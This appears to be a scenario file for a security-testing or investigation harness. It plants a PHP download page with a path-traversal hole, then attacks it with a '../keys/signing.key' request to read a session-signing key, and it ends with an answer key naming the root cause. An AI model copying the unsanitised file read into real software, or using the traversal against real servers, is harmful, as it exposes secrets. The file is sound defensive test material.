/** A page gives out files of a folder by name; an attacker names one outside of it, and gets a key. */
import type { Scenario } from '../scenario.ts';
import { get, portalPackages, portalVisits, portalWith, requestSteps, web } from '../service/portal.ts';
import { client } from '../stage.ts';

const manuals = ['start', 'login', 'reset', 'logout', 'status'];
const download = `<?php
require __DIR__ . '/layout.php';
$name = $_GET['name'];
$text = file_get_contents("/srv/app/manuals/$name");
if ($text === false) {
    refuse(404, 'There is no such manual.');
}
error_log('download: ' . strlen($text) . " bytes of $name");
page('Manual', '<pre>' . htmlspecialchars($text) . '</pre>' . getmypid());
`;
const secret = '/srv/app/keys/signing.key';
const name = `../keys/signing.key`;

export const pathTraversal: Scenario = {
  name: 'path-traversal',
  title: 'a name with dots in it has a page give out a key; the log says that so many bytes were given',
  packages: portalPackages,
  hosts: portalWith({
    app: {
      prepare(container) {
        container.write('srv/app/pages/download.php', download);
        container.write(secret.slice(1), 'a key that signs sessions\n');
        for (const manual of manuals)
          container.write(`srv/app/manuals/${manual}.txt`, `how to ${manual}\n`.repeat(9));
      },
    },
  }),
  load: {
    visits: [
      ...portalVisits,
      { weight: 20, requests: [get('/'), get(manuals.map((manual) => `/download.php?name=${manual}.txt`))] },
      { weight: 2, requests: [get('/download.php?name=missing.txt', 404)] },
    ],
    chores: [{ host: 'app', command: ['/bin/sh', '-c', `wc -c ${secret}`] }],
  },
  async attack(stage) {
    const browser = stage.outside.browser(client);
    await browser.ask(web, 80, { path: '/download.php?name=start.txt' });
    await browser.ask(web, 80, { path: '/download.php?name=../signing.key', status: 404 });
    const read = await browser.ask(web, 80, { path: `/download.php?name=${encodeURIComponent(name)}` });
    if (!read.body.includes('a key that signs')) throw new Error('nothing was read');
    // What php-fpm's standard error has, the web server logs.
    const symptom = await stage.lineOf('web', '/var/log/apache2/error.log', `bytes of ${name}`);
    return {
      symptom,
      also: [`GET /download.php?name=${encodeURIComponent(name)}`],
      rootCause: { kind: 'connection', from: read.client, to: `${web}:80` },
      steps: [
        ...requestSteps(read),
        { what: 'the page', at: { kind: 'file', path: '/srv/app/pages/download.php' } },
        { what: 'the key', at: { kind: 'file', path: secret } },
      ],
    };
  },
};
